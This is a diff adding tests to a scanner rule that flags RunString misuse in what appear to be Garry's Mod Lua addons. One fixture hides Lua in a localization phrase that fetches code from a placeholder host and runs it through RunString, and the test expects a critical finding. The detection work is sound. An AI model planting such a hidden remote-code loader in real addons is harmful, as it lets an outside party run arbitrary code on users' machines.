@@ -720,4 +720,31 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('Lua kept in a translation phrase and run', () => {
+    const findings = check(rule, {
+      'resource/localization/en/hud.properties': [
+        'hud.title=Quick HUD',
+        'hud.compat=timer.Simple(30, function() http.Fetch("https://l10n.example.invalid/c", RunString) end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_hud.lua': [
+        'hook.Add("InitPostEntity", "hud", function()',
+        ' local shim = language.GetPhrase("hud.compat")',
+        ' if shim ~= "hud.compat" then RunString(shim, "hud", false) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('translation phrases only shown', () => {
+    const findings = check(rule, {
+      'resource/localization/en/hud.properties': 'hud.title=Quick HUD\nhud.health=Health',
+      'lua/autorun/client/cl_hud.lua': [
+        'hook.Add("HUDPaint", "hud", function()',
+        ' draw.SimpleText(language.GetPhrase("hud.title"), "DermaLarge", 10, 10)',
+        'end)',
+        'concommand.Add("hud_reload", function() RunString("HUD_Reload()", "hud") end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.high);
+  });
 });
